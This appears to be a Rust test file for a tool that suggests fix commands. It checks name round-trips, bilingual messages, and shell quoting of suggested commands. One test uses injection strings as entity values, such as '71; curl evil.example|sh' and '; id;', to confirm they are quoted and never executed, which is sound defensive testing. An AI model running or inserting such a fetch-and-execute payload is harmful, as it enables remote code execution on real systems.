//! What people read of causes.

use super::*;

#[test]
fn names_and_links_lead_back_to_their_kind() {
    for kind in Kind::ALL {
        assert_eq!(Kind::from_name(kind.name()), Some(kind));
        if let Some(link) = kind.link() {
            assert_eq!(Kind::of_link(link), Some(kind));
        }
        let json = serde_json::to_string(&kind).unwrap();
        assert_eq!(json, format!("\"{}\"", kind.name()));
    }
    for actor in Actor::ALL {
        assert_eq!(Actor::from_name(actor.name()), Some(actor));
        let json = serde_json::to_string(&actor).unwrap();
        assert_eq!(json, format!("\"{}\"", actor.name()));
    }
}

#[test]
fn both_languages_say_as_much_of_what_a_person_decides() {
    let both = [Language::Portuguese, Language::English];
    for (language, words) in both
        .into_iter()
        .zip(["conteúdos diferentes", "different contents"])
    {
        let says = Kind::RevisionTie.says("7", "", language);
        assert!(says.contains(words), "{says}");
    }
    let place = Place {
        tenant: "acme",
        connection: "matriz",
        entity: "7",
    };
    for language in both {
        let fix = Kind::AlreadyPaid.fix_at(place, language);
        assert!(
            fix.contains("delivery replay") && fix.contains("delivery discard"),
            "{fix}"
        );
    }
}

#[test]
fn a_fix_can_be_typed_whatever_people_and_producers_call_things() {
    let place = |connection, entity| Place {
        tenant: "acme",
        connection,
        entity,
    };
    let fix = |kind: Kind, place| {
        let fix = kind.fix_at(place, Language::English);
        let (_, command) = fix.split_once("malote ").unwrap();
        command.to_owned()
    };
    let kind = Kind::ExpenseTypeUnlinked;
    assert_eq!(
        fix(kind, place("matriz", "71")),
        "link set --tenant acme --connection matriz expense-type 71 CATEGORY"
    );
    assert_eq!(
        fix(kind, place("Matriz SP", "71; curl evil.example|sh")),
        "link set --tenant acme --connection 'Matriz SP' expense-type \
         '71; curl evil.example|sh' CATEGORY"
    );
    assert_eq!(
        fix(kind, place("-x", "-5")),
        "link set --tenant acme --connection=-x expense-type -- -5 CATEGORY"
    );
    assert_eq!(
        fix(kind, place("{entity}", "; id;")),
        "link set --tenant acme --connection '{entity}' expense-type '; id;' CATEGORY",
        "a name is no place for another"
    );
    for language in [Language::Portuguese, Language::English] {
        let edited = Kind::EditedInTarget.fix_at(place("matriz", "ML1"), language);
        assert!(
            edited.contains("cancel"),
            "what brings a cancelled one back: {edited}"
        );
    }
}
